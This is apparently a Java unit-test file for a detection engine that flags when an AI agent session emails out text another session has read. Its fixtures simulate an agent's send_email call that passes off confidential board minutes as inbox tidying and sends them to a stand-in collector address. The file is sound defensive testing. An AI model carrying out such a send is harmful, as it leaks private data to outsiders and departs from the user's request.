package io.weir.engine.link;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.engine.decide.Desk;
import io.weir.engine.fingerprint.Print;
import io.weir.engine.state.MemoryStateTable;
import io.weir.engine.state.StateTable;
import io.weir.schemas.event.AlertRaised;
import io.weir.schemas.event.ResponseObserved;
import io.weir.schemas.event.ToolCallScanned;
import io.weir.schemas.word.Tier;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class FleetLaneTest {

    private static final String MINUTES = "The board met on Tuesday and agreed to close the northern depot, to move "
            + "forty people to the harbor site, and to tell nobody before the supplier contracts are signed.";
    private static final String REQUEST = "Tidy up my inbox, please.";

    private final FleetLane lane = new FleetLane();

    private static Desk session(String tenant, String name) {
        return Desk.at(new MemoryStateTable(), tenant, name);
    }

    private List<AlertRaised> sends(Desk desk, String to) {
        return lane.publish(desk.calls("send_email", Map.of("to", to, "subject", "hi", "body", MINUTES), REQUEST)
                .event());
    }

    @Test
    void raisesAnAlertForWhatAnotherSessionHasRead() {
        var read = session("acme", "reader").reads("read_file", Map.of("content", MINUTES));
        lane.publish(read);

        assertThat(sends(session("acme", "sender"), "drop@collector.example"))
                .singleElement()
                .satisfies(alert -> {
                    assertThat(alert.rule()).isEqualTo(FleetDesk.RULE);
                    assertThat(alert.tier().atLeast(Tier.ALERT)).isTrue();
                    assertThat(alert.links()).singleElement().satisfies(link -> {
                        assertThat(link.sourceTraceId()).isEqualTo(read.traceId());
                        assertThat(link.matchedLength()).isGreaterThan(120);
                        assertThat(link.reasons()).contains("agent agent-1 read it in another session");
                    });
                });
    }

    @Test
    void leavesTheSessionsOwnReadsToTheSessionLane() {
        Desk desk = session("acme", "one");
        lane.publish(desk.reads("read_file", Map.of("content", MINUTES)));

        assertThat(sends(desk, "drop@collector.example")).isEmpty();
    }

    @Test
    void takesNoLaterReadForTheSource() {
        Desk reader = session("acme", "reader");
        reader.reads("read_file", Map.of("content", "nothing yet"));
        lane.publish(reader.reads("read_file", Map.of("content", MINUTES)));

        assertThat(sends(session("acme", "sender"), "drop@collector.example")).isEmpty();
    }

    @Test
    void addsNoAlertToTheOneForTheSessionsOwnRead() {
        lane.publish(session("acme", "reader").reads("read_file", Map.of("content", MINUTES)));
        Desk desk = session("acme", "one");
        lane.publish(desk.reads("read_file", Map.of("content", MINUTES)));

        assertThat(sends(desk, "drop@collector.example")).isEmpty();
    }

    @Test
    void knowsNothingOfAnotherTenant() {
        lane.publish(session("zenith", "reader").reads("read_file", Map.of("content", MINUTES)));

        assertThat(sends(session("acme", "sender"), "drop@collector.example")).isEmpty();
    }

    @Test
    void saysNothingAboutWhatStaysInside() {
        lane.publish(session("acme", "reader").reads("read_file", Map.of("content", MINUTES)));

        assertThat(sends(session("acme", "sender"), "anna@weir.test")).isEmpty();
    }

    @Test
    void saysNothingAboutWhatEverybodyReads() {
        for (int i = 0; i <= BucketIndex.COMMON_SESSIONS; i++) {
            lane.publish(session("acme", "reader" + i).reads("read_file", Map.of("content", MINUTES)));
        }

        assertThat(sends(session("acme", "sender"), "drop@collector.example")).isEmpty();
    }

    @Test
    void findsWhatAnyGroupHasReadAndWhatWasReadWhenThereWereFewer() {
        lane.publish(session("acme", "before").reads("read_file", Map.of("content", MINUTES)));
        lane.setGroups(8);
        assertThat(sends(session("acme", "sender"), "drop@collector.example")).hasSize(1);
        for (int i = 0; i < 6; i++) {
            String text = MINUTES.replace("northern", "number " + i * 7919 + " northern");
            FleetLane other = new FleetLane();
            other.setGroups(8);
            other.publish(session("acme", "reader" + i).reads("read_file", Map.of("content", text)));

            ToolCallScanned call = session("acme", "sender")
                    .calls("send_email", Map.of("to", "drop@collector.example", "subject", "hi", "body", text), REQUEST)
                    .event();
            assertThat(other.publish(call)).hasSize(1);
        }
    }

    @Test
    void aReadMakesOneRecordWhateverTheNumberOfGroupsAndAWriteOneForEach() {
        ResponseObserved read = session("acme", "reader").reads("read_file", Map.of("content", MINUTES));
        ToolCallScanned write = session("acme", "sender")
                .calls("send_email", Map.of("to", "drop@collector.example", "body", MINUTES), REQUEST)
                .event();
        FleetDesk many = new FleetDesk(KeptForms.inMemory(), new FleetLayout(64), LossListener.NONE);

        assertThat(many.ask(PlacedEvent.unplaced(read))).hasSize(1);
        assertThat(many.ask(PlacedEvent.unplaced(write)))
                .hasSize(64)
                .extracting(FleetPart::bucketKey)
                .doesNotHaveDuplicates();
    }

    @Test
    void aBucketThatKnowsNothingAnswersOnlyWhereOthersAreAskedToo() {
        ToolCallScanned write = session("acme", "sender")
                .calls("send_email", Map.of("to", "drop@collector.example", "body", MINUTES), REQUEST)
                .event();
        StateTable empty = new MemoryStateTable();
        Forms forms = KeptForms.inMemory();

        FleetPart only = new FleetDesk(forms).ask(PlacedEvent.unplaced(write)).get(0);
        FleetPart oneOfTwo = new FleetDesk(forms, new FleetLayout(2), LossListener.NONE)
                .ask(PlacedEvent.unplaced(write))
                .get(0);

        assertThat(new FleetIndexRule().apply(empty, only)).isEmpty();
        assertThat(new FleetIndexRule().apply(empty, oneOfTwo)).singleElement().satisfies(answer -> {
            assertThat(answer.sources()).isEmpty();
            assertThat(answer.call()).isNull();
        });
    }

    @Test
    void saysNothingAboutWhatPeopleHaveLetGo() {
        ResponseObserved read = session("acme", "reader").reads("read_file", Map.of("content", MINUTES));
        lane.publish(read);
        lane.say(FleetLane.letGo(read.fingerprint(), null, read.timeMillis()));

        assertThat(sends(session("acme", "sender"), "drop@collector.example")).isEmpty();
        assertThat(sends(session("acme", "sender"), "other@collector.example")).isEmpty();
    }

    @Test
    void saysNothingAboutASourceThatPeopleHaveLetGo() {
        ResponseObserved read = session("acme", "reader").reads("read_file", Map.of("content", MINUTES));
        lane.publish(read);
        lane.say(FleetLane.letGo(null, "another", read.timeMillis()));
        assertThat(sends(session("acme", "sender"), "drop@collector.example")).hasSize(1);

        lane.say(FleetLane.letGo(null, read.traceId(), read.timeMillis()));
        assertThat(sends(session("acme", "sender"), "drop@collector.example")).isEmpty();
        assertThat(lane.publish(session("acme", "sender")
                        .calls("send_email", Map.of("to", "drop@collector.example", "body", MINUTES + " "), REQUEST)
                        .event()))
                .isEmpty();
    }

    @Test
    void aPartOfALargeReadHasTheSmallestHashesInTheirOrder() {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < 20_000; i++) {
            text.append(Integer.toString(i * 7919, 36)).append(' ');
        }
        ResponseObserved large = session("acme", "reader").reads("read_file", Map.of("content", text.toString()));
        SessionRead read = SessionRead.of(large, null);

        FleetPart part = new FleetDesk(KeptForms.inMemory())
                .ask(PlacedEvent.unplaced(large))
                .get(0);

        assertThat(part.prints()).hasSizeLessThan(read.prints().size());
        long largest = part.prints().stream().mapToLong(Print::hash).max().orElseThrow();
        assertThat(read.prints().stream().filter(print -> print.hash() <= largest))
                .containsExactlyElementsOf(part.prints());
    }
}
